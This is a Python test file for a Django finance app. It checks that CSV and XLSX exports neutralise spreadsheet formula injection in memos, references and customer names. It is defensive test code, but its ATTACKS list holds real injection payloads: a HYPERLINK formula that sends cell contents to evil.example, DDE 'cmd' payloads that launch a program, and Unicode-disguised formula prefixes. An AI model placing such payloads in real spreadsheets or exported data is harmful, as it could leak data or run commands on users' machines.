"""G50, S43: nothing that a customer wrote is computed by a spreadsheet."""

import csv
import io
import unicodedata

import openpyxl
import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from customers.models import Customer
from reports.tables import inert
from tests.books import transfer
from tests.factories import CustomerFactory
from tests.reports.conftest import World, export, read_csv
from transactions.models import Transaction
from transactions.posting import post

pytestmark = pytest.mark.django_db(transaction=True)

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "−", "﹦"]
HIDDEN_BEHIND = ["", " ", "   ", "'", '"', '" ', "\u00a0", "\u200b", "\ufeff", "\u3000", "’", " \t", "\n"]
ATTACKS = [hidden + start + "1+1" for start in STARTS for hidden in HIDDEN_BEHIND] + [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+254 is Kenya",
    "-2+3",
    "rent;=1+1",
    'rent";"=1+1',
    "rent\n=1+1",
    "rent\r\n@x",
    "rent\t+1",
    "rent|=1+1",
    "＝HYPERLINK(1)",
]
HARMLESS = ["rent 2026-11", "a=b", "O'Brien", '"quoted"', "x - y", "mary@home", "50% off", "caf\u00e9", ""]


def computes(cell: str) -> bool:
    """Whether a spreadsheet could take it for a formula; said another way than the exporter does."""
    for character in cell:
        if character in '"`‘’“”' or unicodedata.category(character) in ("Zs", "Zl", "Zp", "Cf", "Cc"):
            continue
        return unicodedata.normalize("NFKC", character) in ("=", "+", "-", "@", "−")
    return False


@pytest.fixture
def attacked(world: World) -> dict[str, str]:
    """Each attack as the memo of a transfer, in its reference, and as somebody's name; by the transaction's id."""
    movements = [
        transfer(world.wanjiku, world.john, 1_00, memo=text, reference=f"{text}{n}")
        for n, text in enumerate(ATTACKS + HARMLESS)
    ]
    outcomes = [outcome.or_raise() for outcome in post(movements)]
    Customer.objects.filter(pk=world.john.customer_id).update(full_name="=1+1;@x")
    return {str(one.transaction): text for one, text in zip(outcomes, ATTACKS + HARMLESS)}


def test_no_cell_of_a_csv_is_a_formula_and_harmless_text_is_untouched(
    world: World, finance: Client, attacked: dict[str, str]
) -> None:
    _, content = export(finance)

    rows = {row["id"]: row for row in read_csv(content)}
    for pk, text in attacked.items():
        row = rows[pk]
        assert not any(computes(row[name]) for name in ("memo", "reference", "payer", "payee")), row
        assert row["payee"] == "'=1+1;'@x"
        if text in HARMLESS:
            assert row["memo"] == text
        else:
            assert row["memo"].replace("'", "") == text.replace("'", "")
            assert row["memo"].startswith("'") or not computes(text)
            assert row["memo"] != text


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_nor_when_the_file_is_split_at_another_separator(
    world: World, finance: Client, attacked: dict[str, str], separator: str
) -> None:
    _, content = export(finance)

    reader = csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator)
    assert [cell for row in reader for cell in row if computes(cell)] == []


def test_no_cell_of_a_workbook_is_a_formula_and_all_text_is_identical(
    world: World, finance: Client, attacked: dict[str, str]
) -> None:
    _, content = export(finance, file_format="xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = list(sheet.iter_rows())
    heads = [cell.value for cell in cells[0]]
    stored = {str(one.pk): one for one in Transaction.objects.all()}
    for row in cells[1:]:
        by_name = dict(zip(heads, row))
        assert {cell.data_type for cell in row} <= {"s", "inlineStr", "n", "d"}
        for name in ("memo", "reference", "payee"):
            if by_name[name].value:
                assert by_name[name].quotePrefix, "it would become a formula when somebody edits the cell"
        pk = by_name["id"].value
        if pk in attacked:
            assert alike(by_name["memo"].value, stored[pk].memo)
            assert alike(by_name["reference"].value, stored[pk].reference or "")
            assert by_name["payee"].value == "=1+1;@x"


def alike(read: str | None, written: str) -> bool:
    """A workbook writes control characters as _x000D_, and XML knows one way to end a line."""
    return lines(unescape(read or "")) == lines(written)


def lines(text: str) -> list[str]:
    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(
        st.text(alphabet=st.sampled_from("=+-@＝＠;|\t\r\n '\"`’\u00a0\u200b\ufeffab1"), max_size=12), max_size=40
    )
)
def test_whatever_is_written_no_cell_computes(transactional_db: None, texts: list[str]) -> None:
    made = as_cells(texts)

    for text, cell in zip(texts, made, strict=True):
        assert not computes(cell)
        assert cell.replace("'", "") == text.replace("'", "")
        if not set(text) & set("=+-@＝＠\t\r\n"):
            assert cell == text


def as_cells(texts: list[str]) -> list[str]:
    """What the exporter makes of each."""
    Customer.objects.all().delete()
    CustomerFactory.create_batch(len(texts))
    made = []
    for customer, text in zip(Customer.objects.order_by("pk"), texts, strict=True):
        Customer.objects.filter(pk=customer.pk).update(full_name=text)
    for customer in Customer.objects.order_by("pk").annotate(cell=inert("full_name")):
        made.append(customer.cell)
    return made
